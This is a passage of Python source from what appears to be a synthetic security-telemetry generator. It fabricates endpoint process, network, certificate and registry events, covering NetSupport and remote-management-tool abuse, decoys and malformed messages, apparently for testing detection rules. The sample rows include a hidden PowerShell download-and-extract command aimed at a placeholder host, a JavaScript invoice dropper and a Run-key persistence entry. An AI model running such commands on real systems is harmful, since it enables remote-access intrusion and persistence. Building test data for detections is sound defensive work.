                'powershell.exe -w h -c "iwr hxxp://update.example.invalid/fw.zip -OutFile $env:TEMP\\fw.zip; '
                'Expand-Archive $env:TEMP\\fw.zip C:\\ProgramData"'
            )
        elif story == "abuse-userprofile":
            folder = f"C:\\Users\\{user}\\AppData\\Roaming\\{rnd.choice(('Client', 'Rtxw', 'Nsm2'))}"
            row["InitiatingProcessFileName"] = rnd.choice(("wscript.exe", "explorer.exe", "powershell.exe"))
            row["ProcessCommandLine"] = f"{folder}\\{component} /I"
            row["InitiatingProcessCommandLine"] = f'wscript.exe "C:\\Users\\{user}\\Downloads\\Invoice-8812.js"'
        else:
            folder = legit
            command = f'"{legit}\\{component}" '
            if story == "schtasks":
                row["InitiatingProcessFileName"] = "schtasks.exe"
            elif story == "it-support":
                row["AccountName"] = "ITSupportUser"
            elif story == "group-policy":
                row["InitiatingProcessFileName"] = "gpupdate.exe"
                command += "/GroupPolicy"
            elif story == "monitoring":
                command += rnd.choice(("/monitor", "/report"))
            elif story == "task-scheduler":
                row["InitiatingProcessFileName"] = "TaskScheduler"
            else:
                row["InitiatingProcessFileName"] = "services.exe"
            row["ProcessCommandLine"] = command
        row["FolderPath"] = f"{folder}\\{component}"
        return story

    def rmm(self, row: dict[str, Any], tool: RmmTool, device: dict[str, str], story: str) -> None:
        """Turn a process launch into one of ``tool``'s process stories (RMM_STORIES["process"])."""
        rnd = self.random
        user = device["user"]
        file_name = rnd.choice(tool.files)
        if story == "abuse":
            folder = rnd.choice((f"C:\\Users\\{user}\\Downloads", f"C:\\Users\\{user}\\AppData\\Local\\Temp",
                                 f"C:\\ProgramData\\{rnd.choice(('Intel64', 'WinSvc', 'MSCache'))}"))  # fmt: skip
            row["InitiatingProcessFileName"] = rnd.choice(_DROPPERS)
            row["ProcessIntegrityLevel"] = "High"
        else:
            folder = tool.folder.replace("{user}", user)
            row["InitiatingProcessFileName"] = "services.exe"
        row["FileName"] = file_name
        row["FolderPath"] = f"{folder}\\{file_name}"
        row["ProcessCommandLine"] = f'"{folder}\\{file_name}"' + (" --silent" if story == "abuse" else " --service")
        row["ProcessVersionInfoCompanyName"] = tool.company
        row["ProcessVersionInfoProductName"] = tool.product
        row["ProcessVersionInfoFileDescription"] = tool.product
        row["ProcessVersionInfoOriginalFileName"] = file_name
        row["ProcessVersionInfoInternalFileName"] = file_name.rsplit(".", 1)[0]

    def near_miss(self, row: dict[str, Any], tool: RmmTool) -> str:
        longer = f"My{tool.key}"  # one longer term: contains the key, is not the key
        row["ProcessVersionInfoCompanyName"] = f"{longer} Tools"
        row["ProcessVersionInfoProductName"] = f"{longer} Helper"
        return "longer-term-company"


class _NetworkRows(_Rows):
    """DeviceNetworkEvents: the catalog's connections, RMM agents' and browsers' connections to vendors."""

    entries = _CONNECTIONS
    compact_drops = _COMPACT_NETWORK_DROPS

    def _base(self, entry: tuple[Any, ...]) -> dict[str, Any]:
        """A connection without its device, user and times."""
        rnd = self.random
        file_name, folder, company, product, url, port, ip_type = entry
        public = ip_type == "Public"
        action = rnd.choices(("ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"), (90, 7, 3))[0]
        return {
            "Timestamp": None,
            "DeviceId": None,
            "DeviceName": None,
            "ActionType": action,
            "RemoteIP": f"{rnd.choice((13, 20, 40, 52, 104, 142))}.{rnd.randrange(256)}.{rnd.randrange(256)}."
            f"{rnd.randrange(1, 255)}"
            if public
            else f"10.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}",
            "RemotePort": port,
            "RemoteUrl": url,
            "LocalIP": None,
            "LocalPort": rnd.randrange(49152, 65535),
            "Protocol": "Udp" if port == 53 else "Tcp",
            "LocalIPType": "Private",
            "RemoteIPType": ip_type,
            "InitiatingProcessSHA1": self._hex(160),
            "InitiatingProcessSHA256": None,
            "InitiatingProcessMD5": self._hex(128),
            "InitiatingProcessFileName": file_name,
            "InitiatingProcessFileSize": rnd.randrange(100_000, 9_000_000),
            "InitiatingProcessVersionInfoCompanyName": company,
            "InitiatingProcessVersionInfoProductName": product,
            "InitiatingProcessVersionInfoProductVersion": f"{rnd.randrange(1, 130)}.0.{rnd.randrange(0, 9999)}",
            "InitiatingProcessVersionInfoInternalFileName": file_name.rsplit(".", 1)[0],
            "InitiatingProcessVersionInfoOriginalFileName": file_name,
            "InitiatingProcessVersionInfoFileDescription": product,
            "InitiatingProcessId": rnd.randrange(4, 65_000, 4),
            "InitiatingProcessCommandLine": f'"{file_name}"',
            "InitiatingProcessCreationTime": None,
            "InitiatingProcessFolderPath": f"{folder}\\{file_name}".lower(),
            "InitiatingProcessParentFileName": rnd.choice(("explorer.exe", "services.exe", "svchost.exe")),
            "InitiatingProcessParentId": rnd.randrange(4, 65_000, 4),
            "InitiatingProcessParentCreationTime": None,
            "InitiatingProcessAccountDomain": "corp",
            "InitiatingProcessAccountName": None,
            "InitiatingProcessAccountSid": None,
            "InitiatingProcessAccountUpn": None,
            "InitiatingProcessAccountObjectId": None,
            "InitiatingProcessIntegrityLevel": rnd.choice(("Medium", "High", "System")),
            "InitiatingProcessTokenElevation": "TokenElevationTypeDefault",
            "ReportId": None,
            "AppGuardContainerId": "",
            "AdditionalFields": None,
            "InitiatingProcessSessionId": rnd.randrange(0, 4),
            "IsInitiatingProcessRemoteSession": False,
            "InitiatingProcessRemoteSessionDeviceName": None,
            "InitiatingProcessRemoteSessionIP": None,
            "InitiatingProcessUniqueId": str(rnd.getrandbits(40)),
            "LogonID": None,
            "MachineGroup": None,
        }

    def row(self, device: dict[str, str], ticks: int) -> dict[str, Any]:
        """A connection from ``device`` at ``ticks``: a pooled base row, personalised."""
        rnd = self.random
        row = super().row(device, ticks)
        user = device["user"]
        row["LocalIP"] = f"10.20.{int(device['sid'].rsplit('-', 1)[1]) % 250}.{rnd.randrange(2, 250)}"
        row["InitiatingProcessCreationTime"] = format_datetime(ticks - rnd.randrange(3600 * TICKS_PER_SECOND))
        row["InitiatingProcessAccountName"] = user
        row["InitiatingProcessAccountSid"] = device["sid"]
        row["InitiatingProcessAccountUpn"] = f"{user}@corp.example"
        if "{user}" in row["InitiatingProcessFolderPath"]:
            row["InitiatingProcessFolderPath"] = row["InitiatingProcessFolderPath"].replace("{user}", user)
        return row

    def rmm(self, row: dict[str, Any], tool: RmmTool, device: dict[str, str], story: str) -> None:
        """Turn a connection into one of ``tool``'s network stories (RMM_STORIES["network"])."""
        rnd = self.random
        row["ActionType"] = "ConnectionSuccess"
        row["RemoteIP"] = f"{rnd.choice(('198.51.100', '203.0.113'))}.{rnd.randrange(1, 255)}"
        row["RemoteIPType"] = "Public"
        row["Protocol"] = "Tcp"
        if story == "browser-visit":
            browser = rnd.choice(_BROWSERS)
            self._initiating(row, browser[0], browser[1], browser[2], browser[3])
            row["RemoteUrl"] = rnd.choice((tool.domain, f"www.{tool.domain}", f"download.{tool.domain}"))
            row["RemotePort"] = 443
            return
        row["RemoteUrl"] = self._relay(tool)
        row["RemotePort"] = rnd.choice((tool.port, 443))
        file_name = rnd.choice(tool.files)
        if story == "relay":
            self._initiating(row, file_name, tool.folder.replace("{user}", device["user"]), tool.company, tool.product)
        else:  # unsigned-copy: a renamed portable copy, its version info stripped
            folder = f"C:\\Users\\{device['user']}\\AppData\\Local\\Temp"
            self._initiating(row, rnd.choice(_DISGUISES), folder, "", "")
            row["InitiatingProcessParentFileName"] = rnd.choice(_DROPPERS)

    def near_miss(self, row: dict[str, Any], tool: RmmTool) -> str:
        rnd = self.random
        story = rnd.choice(NEAR_MISS_STORIES["network"])
        if story == "longer-term-domain":
            row["RemoteUrl"] = f"my{tool.domain}.example"
        else:
            row["RemoteUrl"] = f"{tool.domain}.{rnd.choice(('login-check', 'secure-update', 'cdn-edge'))}.example"
        return story

    def _relay(self, tool: RmmTool) -> str:
        host = self.random.choice(tool.hosts).replace("{n}", str(self.random.randrange(1, 400)))
        return f"{host}.{tool.domain}"

    @staticmethod
    def _initiating(row: dict[str, Any], file_name: str, folder: str, company: str, product: str) -> None:
        row["InitiatingProcessFileName"] = file_name
        row["InitiatingProcessFolderPath"] = f"{folder}\\{file_name}"
        row["InitiatingProcessCommandLine"] = f'"{folder}\\{file_name}"'
        row["InitiatingProcessVersionInfoCompanyName"] = company
        row["InitiatingProcessVersionInfoProductName"] = product
        row["InitiatingProcessVersionInfoOriginalFileName"] = file_name if company else ""
        row["InitiatingProcessVersionInfoInternalFileName"] = file_name.rsplit(".", 1)[0] if company else ""
        row["InitiatingProcessVersionInfoFileDescription"] = product


class _CertificateRows(_Rows):
    """DeviceFileCertificateInfo: the catalog's signatures, RMM vendors' signatures and unsigned copies."""

    entries = _SIGNATURES
    compact_drops = _COMPACT_CERTIFICATE_DROPS

    def _base(self, entry: tuple[Any, ...]) -> dict[str, Any]:
        """A file's signature without its device and times."""
        rnd = self.random
        signer, issuer, microsoft_root = entry
        signed = bool(signer)
        created = rnd.randrange(1_600_000_000, 1_750_000_000) * TICKS_PER_SECOND
        return {
            "Timestamp": None,
            "DeviceId": None,
            "DeviceName": None,
            "SHA1": self._hex(160),
            "IsSigned": signed,
            "SignatureType": rnd.choice(("Embedded", "Embedded", "Catalog")) if signed else "None",
            "Signer": signer,
            "SignerHash": self._hex(160) if signed else "",
            "Issuer": issuer,
            "IssuerHash": self._hex(160) if signed else "",
            "CertificateSerialNumber": self._hex(128) if signed else "",
            "CrlDistributionPointUrls": orjson.dumps([f"http://crl.example/{issuer.split()[0].lower()}.crl"]).decode()
            if signed
            else None,
            "CertificateCreationTime": format_datetime(created) if signed else None,
            "CertificateExpirationTime": format_datetime(created + 3 * 365 * TICKS_PER_DAY) if signed else None,
            "CertificateCountersignatureTime": format_datetime(created + rnd.randrange(365) * TICKS_PER_DAY)
            if signed
            else None,
            "IsTrusted": signed,
            "IsRootSignerMicrosoft": microsoft_root,
            "ReportId": None,
            "MachineGroup": None,
        }

    def rmm(self, row: dict[str, Any], tool: RmmTool, device: dict[str, str], story: str) -> None:
        """Turn a signature into one of ``tool``'s certificate stories (RMM_STORIES["certificate"])."""
        row["SHA1"] = self._hex(160)
        row["IsRootSignerMicrosoft"] = False
        if story == "unsigned-copy":
            row.update(IsSigned=False, IsTrusted=False, SignatureType="None", Signer="", SignerHash="", Issuer="",
                       IssuerHash="", CertificateSerialNumber="")  # fmt: skip
            return
        row.update(IsSigned=True, IsTrusted=story == "signed", SignatureType="Embedded", Signer=tool.signer,
                   Issuer=tool.issuer, SignerHash=self._hex(160), CertificateSerialNumber=self._hex(128))  # fmt: skip

    def near_miss(self, row: dict[str, Any], tool: RmmTool) -> str:
        row.update(IsSigned=True, IsTrusted=True, Signer=f"{tool.key}Soft Ltd", Issuer=_SECTIGO)
        return "lookalike-signer"


class Generator:
    """Produces Event Hubs message bodies (bytes), deterministic for a seed and clock."""

    def __init__(self, config: GeneratorConfig | None = None, clock: Clock = wall_clock) -> None:
        self.config = config or GeneratorConfig()
        self.clock = clock
        self.random = random.Random(self.config.seed)
        self.stats = GeneratorStats()
        rnd = self.random
        self.devices = [self._device(i) for i in range(max(1, self.config.devices))]
        count = max(1, min(self.config.netsupport_devices, len(self.devices)))
        self.netsupport_devices = rnd.sample(self.devices, count)
        self.rmm_devices = rnd.sample(self.devices, max(1, min(self.config.rmm_devices, len(self.devices))))
        report_ids = itertools.count(rnd.randrange(10_000, 90_000) + 1)
        self._recent: list[dict[str, Any]] = []
        compact = self.config.compact
        # Made in this order (process, network, certificate): each pool draws from the one sequence.
        self._process = _ProcessRows(rnd, report_ids, compact=compact)
        self._tables: dict[str, _Rows] = {
            "process": self._process,
            "network": _NetworkRows(rnd, report_ids, compact=compact),
            "certificate": _CertificateRows(rnd, report_ids, compact=compact),
        }

    def _device(self, index: int) -> dict[str, str]:
        rnd = self.random
        name = f"{rnd.choice(_DEPARTMENTS)}-{rnd.choice(_KINDS)}-{index:04d}.corp.example"
        return {
            "DeviceId": f"{rnd.getrandbits(160):040x}",
            "DeviceName": name,
            "user": rnd.choice(_FIRST),
            "sid": f"S-1-5-21-1004336348-1177238915-682003330-{1000 + index}",
        }

    def _timestamp(self, now: int) -> int:
        cfg = self.config
        delay = self.random.uniform(cfg.min_delay_s, cfg.max_delay_s)
        return now - int(delay * TICKS_PER_SECOND) - self.random.randrange(TICKS_PER_SECOND)

    def _count_story(self, tool: RmmTool, table: str, story: str) -> None:
        key = (tool.name, table, story)
        self.stats.rmm_stories[key] = self.stats.rmm_stories.get(key, 0) + 1

    # -- records and messages --------------------------------------------------------------------
    def record(self, now: int) -> dict[str, Any]:
        """One envelope record (category, properties...) at clock time ``now``."""
        cfg = self.config
        rnd = self.random
        roll = rnd.random()
        stats = self.stats
        if self._recent and roll < cfg.duplicate_ratio:
            stats.duplicates += 1
            return rnd.choice(self._recent)
        ticks = self._timestamp(now)
        # NetSupport launches and their decoys are process events at their ratio of all records;
        # the other records are spread over the tables, then RMM stories and near misses occur
        # in each table at their ratio.
        roll = rnd.random()
        if roll < cfg.netsupport_ratio:
            table, category = "process", CATEGORY
            device = rnd.choice(self.netsupport_devices)
            row = self._process.row(device, ticks)
            story = self._process.netsupport(row, device)
            stats.netsupport += 1
            stats.stories[story] = stats.stories.get(story, 0) + 1
        elif roll < cfg.netsupport_ratio + cfg.decoy_ratio:
            table, category = "process", CATEGORY
            row = self._process.row(rnd.choice(self.devices), ticks)
            row["ProcessVersionInfoCompanyName"] = rnd.choice(DECOY_COMPANIES)
            stats.decoys += 1
        else:
            roll = rnd.random()
            if roll < cfg.network_ratio:
                table, category = "network", NETWORK_CATEGORY
            elif roll < cfg.network_ratio + cfg.certificate_ratio:
                table, category = "certificate", CERTIFICATE_CATEGORY
            else:
                table, category = "process", CATEGORY
            roll = rnd.random()
            rmm = roll < cfg.rmm_ratio
            device = rnd.choice(self.rmm_devices if rmm else self.devices)
            rows = self._tables[table]
            row = rows.row(device, ticks)
            if rmm:
                tool = rnd.choice(RMM_TOOLS)
                story = rnd.choice(RMM_STORIES[table])
                rows.rmm(row, tool, device, story)
                stats.rmm += 1
                self._count_story(tool, table, story)
            elif roll < cfg.rmm_ratio + cfg.near_miss_ratio:
                tool = rnd.choice(RMM_TOOLS)
                self._count_story(tool, table, rows.near_miss(row, tool))
                stats.near_misses += 1
        stats.tables[table] = stats.tables.get(table, 0) + 1
        roll = rnd.random()
        if roll < cfg.late_ratio:
            row["Timestamp"] = format_datetime(ticks - cfg.window_ticks - rnd.randrange(TICKS_PER_DAY))
            stats.late += 1
        elif roll < cfg.late_ratio + cfg.future_ratio:
            row["Timestamp"] = format_datetime(now + rnd.randrange(TICKS_PER_MINUTE, 10 * TICKS_PER_MINUTE))
            stats.future += 1
        if rnd.random() < cfg.other_table_ratio:
            category = OTHER_CATEGORY
            row = self._registry(row)
            stats.other_table += 1
        received = now - rnd.randrange(30 * TICKS_PER_SECOND)
        record = {
            "time": format_datetime(now),
            "tenantId": "00000000-0000-0000-0000-000000000001",
            "operationName": "Publish",
            "category": category,
            "_TimeReceivedBySvc": format_datetime(received),
            "properties": row,
        }
        if cfg.duplicate_ratio:
            if len(self._recent) >= 256:
                self._recent[rnd.randrange(256)] = record
            else:
                self._recent.append(record)
        return record

    def _registry(self, row: dict[str, Any]) -> dict[str, Any]:
        """A DeviceRegistryEvents row on the same device and time (a table no rule reads)."""
        return {
            "Timestamp": row["Timestamp"],
            "DeviceId": row["DeviceId"],
            "DeviceName": row["DeviceName"],
            "ActionType": "RegistryValueSet",
            "RegistryKey": r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            "RegistryValueName": "Updater",
            "RegistryValueData": f"C:\\ProgramData\\{self.random.randrange(10_000)}\\client32.exe",
            "InitiatingProcessFileName": "reg.exe",
            "ReportId": row["ReportId"],
        }

    def message(self) -> bytes:
        """One Event Hubs message body: ``{"records": [...]}`` of 1..N records (or a malformed one)."""
        cfg = self.config
        rnd = self.random
        now = self.clock()
        count = rnd.randint(cfg.min_records, cfg.max_records)
        records = [self.record(now) for _ in range(count)]
        self.stats.messages += 1
        self.stats.records += count
        if rnd.random() < cfg.malformed_ratio:
            self.stats.malformed += 1
            return self._malformed(records)
        return orjson.dumps({"records": records})

    def _malformed(self, records: list[dict[str, Any]]) -> bytes:
        """A broken message that still mentions NetSupport, so decode (not the prefilter) sees it."""
        rnd = self.random
        kind = rnd.randrange(6)
        good = orjson.dumps({"records": records})
        if kind == 0:
            return good[: len(good) // 2] + b'"NetSupport Ltd'  # truncated JSON
        if kind == 1:
            return b'{"records":[{"properties":{"ProcessVersionInfoCompanyName":"NetSupport \xff\xfe Ltd"}}]}'
        if kind == 2:
            return b'{"records":{"ProcessVersionInfoCompanyName":"NetSupport Ltd"}}'
        if kind == 3:
            row = dict(records[0].get("properties", {}))
            row["ProcessVersionInfoCompanyName"] = 12345
            row["FileName"] = "client32.exe netsupport"
            return orjson.dumps({"records": [{"category": CATEGORY, "properties": row}]})
        if kind == 4:
            row = dict(records[0].get("properties", {}))
            row["Timestamp"] = "2026-13-45T99:00:00Z"
            row["ProcessVersionInfoCompanyName"] = "NetSupport Ltd"
            return orjson.dumps({"records": [{"category": CATEGORY, "properties": row}]})
        return b'"NetSupport Ltd"'

    def messages(self, count: int | None = None) -> Iterator[bytes]:
        produced = 0
        while count is None or produced < count:
            yield self.message()
            produced += 1
